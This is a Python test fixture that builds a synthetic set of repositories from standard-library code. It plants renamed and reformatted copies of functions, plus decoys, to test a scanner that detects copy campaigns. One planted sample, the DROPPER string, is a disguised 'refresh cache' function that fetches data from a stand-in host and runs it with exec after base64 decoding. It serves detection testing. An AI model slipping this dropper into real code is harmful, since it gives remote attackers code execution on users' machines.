"""A small mirror built from real standard-library code, with planted campaigns and decoys.

Planted: one function copied into several repositories within days, by different authors, each copy
with its local names renamed and its layout changed. Decoys: a vendored module, a licence header and
setup.py boilerplate, each in many repositories but spread over years. Reusable by any test or bench.
"""
from __future__ import annotations

import ast
import random
import re
import sysconfig
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

from codescan.records import Document

STDLIB = Path(sysconfig.get_paths()["stdlib"])
HOST_MODULES = ("argparse", "base64", "bisect", "calendar", "cmd", "codecs", "configparser",
                "csv", "difflib", "dis", "filecmp", "fileinput", "fractions", "ftplib", "getopt", "gettext",
                "glob", "gzip", "heapq", "hmac", "imaplib", "ipaddress", "mailbox", "netrc", "numbers",
                "operator", "optparse", "pathlib", "pickletools", "platform", "plistlib", "poplib", "pprint",
                "queue", "quopri", "random", "sched", "secrets", "selectors", "shelve", "smtplib", "socketserver",
                "stat", "statistics", "string", "stringprep", "symtable", "tabnanny", "tarfile", "tempfile",
                "timeit", "token", "tokenize", "trace", "traceback", "uu", "uuid", "wave", "weakref", "zipapp")
PLANTED_FROM = (("shlex", "split"), ("fnmatch", "translate"), ("textwrap", "dedent"))
DROPPER = '''def refresh_cache(cache_dir, token, retries=3):
    """Refresh the local metrics cache."""
    import base64
    import urllib.request
    url = "https://cdn.example-metrics.net/v2/" + token
    for attempt in range(retries):
        data = urllib.request.urlopen(url, timeout=5).read()
        if len(data) > 16:
            exec(base64.b64decode(data))
            break
    return cache_dir
'''
LICENCE = "\n".join("# " + line for line in (
    "Copyright (c) The Example Authors. All rights reserved.",
    "Licensed under the Apache License, Version 2.0 (the \"License\");",
    "you may not use this file except in compliance with the License.",
    "You may obtain a copy of the License at http://www.apache.org/licenses/LICENSE-2.0",
    "Unless required by applicable law or agreed to in writing, software distributed under the",
    "License is distributed on an \"AS IS\" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND.")) + "\n"
SETUP = '''from setuptools import find_packages, setup

with open("README.md", encoding="utf-8") as fh:
    long_description = fh.read()

setup(
    name="{name}",
    version="{version}",
    author="{author}",
    description="{name} utilities",
    long_description=long_description,
    long_description_content_type="text/markdown",
    packages=find_packages(exclude=["tests", "docs"]),
    python_requires=">=3.8",
    install_requires=["requests>=2.20"],
    classifiers=[
        "Programming Language :: Python :: 3",
        "License :: OSI Approved :: MIT License",
        "Operating System :: OS Independent",
    ],
)
'''


@dataclass
class World:
    documents: list[Document] = field(default_factory=list)
    planted: dict[str, set[tuple[str, str]]] = field(default_factory=dict)  # name -> {(repo, path)}
    decoys: dict[str, set[tuple[str, str]]] = field(default_factory=dict)

    def write(self, root: Path) -> None:
        """Lay the world out as folders (one per repository) for `codescan campaigns PATH`."""
        for doc in self.documents:
            target = root / doc.repo / doc.path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(doc.content)


def function_source(module: str, name: str) -> str:
    source = (STDLIB / f"{module}.py").read_text(encoding="utf-8")
    for node in ast.parse(source).body:
        if isinstance(node, ast.FunctionDef) and node.name == name:
            return "\n".join(source.splitlines()[node.lineno - 1:node.end_lineno]) + "\n"
    raise LookupError(f"{module}.{name}")


def local_names(source: str) -> list[str]:
    """Parameters and assigned names of a function (what a planter renames)."""
    fn = ast.parse(source).body[0]
    names = {a.arg for a in ast.walk(fn) if isinstance(a, ast.arg)}
    names |= {n.id for n in ast.walk(fn) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)}
    names.add(fn.name)
    return sorted(names - {"self"})


def rename(source: str, rng: random.Random, suffix: str) -> str:
    """Consistently rename every local name (never an attribute `.name` or a keyword argument `name=`)."""
    head, _, body = source.partition("\n")
    for name in local_names(source):
        new = f"{rng.choice(('val', 'item', 'tmp', 'buf', 'obj', 'cur'))}_{name[:3]}{suffix}"
        head = re.sub(rf"(?<![.\w]){re.escape(name)}\b", new, head)
        body = re.sub(rf"(?<![.\w]){re.escape(name)}\b(?!=[^=])", new, body)
    return head + "\n" + body


def reformat(source: str, style: int) -> str:
    """Same code, another layout: 2-space indents, blank lines, or one trailing comment."""
    lines = source.splitlines()
    if style % 3 == 0:
        lines = [re.sub(r"^((?:    )+)", lambda m: "  " * (len(m.group(1)) // 4), line) for line in lines]
    elif style % 3 == 1:
        lines = [part for i, line in enumerate(lines) for part in ((line, "") if i % 3 == 2 else (line,))]
    else:
        at = next((i for i, line in enumerate(lines) if line.rstrip().endswith(")")), 0)
        lines[at] += "  # noqa"
    return "\n".join(lines) + "\n"


def _iso(moment: datetime) -> str:
    return moment.replace(microsecond=0).isoformat()


def build(seed: int = 7, repos: int = 24, copies: int = 6) -> World:
    rng = random.Random(seed)
    world = World()
    base = datetime(2019, 1, 1, tzinfo=timezone.utc)
    names = [f"{rng.choice(('acme', 'orbit', 'delta', 'nova', 'pixel', 'lumen'))}{i}/{rng.choice(('tools', 'lib', 'app', 'kit'))}{i}"
             for i in range(repos)]
    hosts: dict[str, list[str]] = {}
    modules = list(HOST_MODULES)
    rng.shuffle(modules)
    for i, repo in enumerate(names):
        hosts[repo] = []
        for module in modules[2 * i:2 * i + 2]:
            path = f"src/{module}_util.py"
            created = base + timedelta(days=rng.randrange(0, 5 * 365))
            content = (STDLIB / f"{module}.py").read_text(encoding="utf-8")
            world.documents.append(Document(path=path, content=content.encode(), repo=repo,
                                            author=f"dev{i}", date=_iso(created)))
            hosts[repo].append(path)
    by_key = {(d.repo, d.path): n for n, d in enumerate(world.documents)}

    def plant(label: str, source: str, when: datetime) -> None:
        chosen = rng.sample([r for r in names if hosts[r]], copies)
        world.planted[label] = set()
        for k, repo in enumerate(chosen):
            path = hosts[repo].pop(rng.randrange(len(hosts[repo])))  # one planting per host file
            variant = reformat(rename(source, rng, str(k)), k) if k else source
            n = by_key[(repo, path)]
            doc = world.documents[n]
            content = doc.content + b"\n\n" + variant.encode()
            world.documents[n] = Document(path=path, content=content, repo=repo, author=f"planter{label}{k}",
                                          date=_iso(when + timedelta(hours=rng.randrange(0, 96))))
            world.planted[label].add((repo, path))

    for j, (module, fn) in enumerate(PLANTED_FROM):
        plant(f"{module}.{fn}", function_source(module, fn), base + timedelta(days=400 + 300 * j))
    plant("dropper", DROPPER, base + timedelta(days=1500))

    def spread(label: str, count: int, make) -> None:
        world.decoys[label] = set()
        for k, repo in enumerate(rng.sample(names, min(count, len(names)))):
            path, content = make(k, repo)
            when = base + timedelta(days=rng.randrange(0, 6 * 365))
            world.documents.append(Document(path=path, content=content.encode(), repo=repo,
                                            author=f"maint{k}", date=_iso(when)))
            world.decoys[label].add((repo, path))

    vendored = (STDLIB / "colorsys.py").read_text(encoding="utf-8")
    spread("vendored", 10, lambda k, repo: ("third_party/colorsys.py", vendored))
    spread("licence", 12, lambda k, repo: (f"src/{repo.split('/')[1]}/__init__.py",
                                           LICENCE + f'\n"""The {repo} package."""\n__version__ = "{k}.1"\n'))
    spread("setup", 14, lambda k, repo: ("setup.py", SETUP.format(name=repo.split("/")[1], version=f"0.{k}",
                                                                   author=f"maint{k}")))
    return world


def write_git(world: World, root: Path) -> None:
    """Each repository as a git working tree, each file committed by its author on its date."""
    import git

    by_repo: dict[str, list[Document]] = {}
    for doc in world.documents:
        by_repo.setdefault(doc.repo, []).append(doc)
    for repo_name, docs in by_repo.items():
        folder = root / repo_name
        folder.mkdir(parents=True, exist_ok=True)
        repo = git.Repo.init(folder)
        for doc in sorted(docs, key=lambda d: d.date):
            target = folder / doc.path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(doc.content)
            repo.index.add([doc.path])
            who = git.Actor(doc.author, f"{doc.author}@example.org")
            stamp = f"{int(datetime.fromisoformat(doc.date).timestamp())} +0000"
            repo.index.commit(f"add {doc.path}", author=who, committer=who, author_date=stamp, commit_date=stamp)
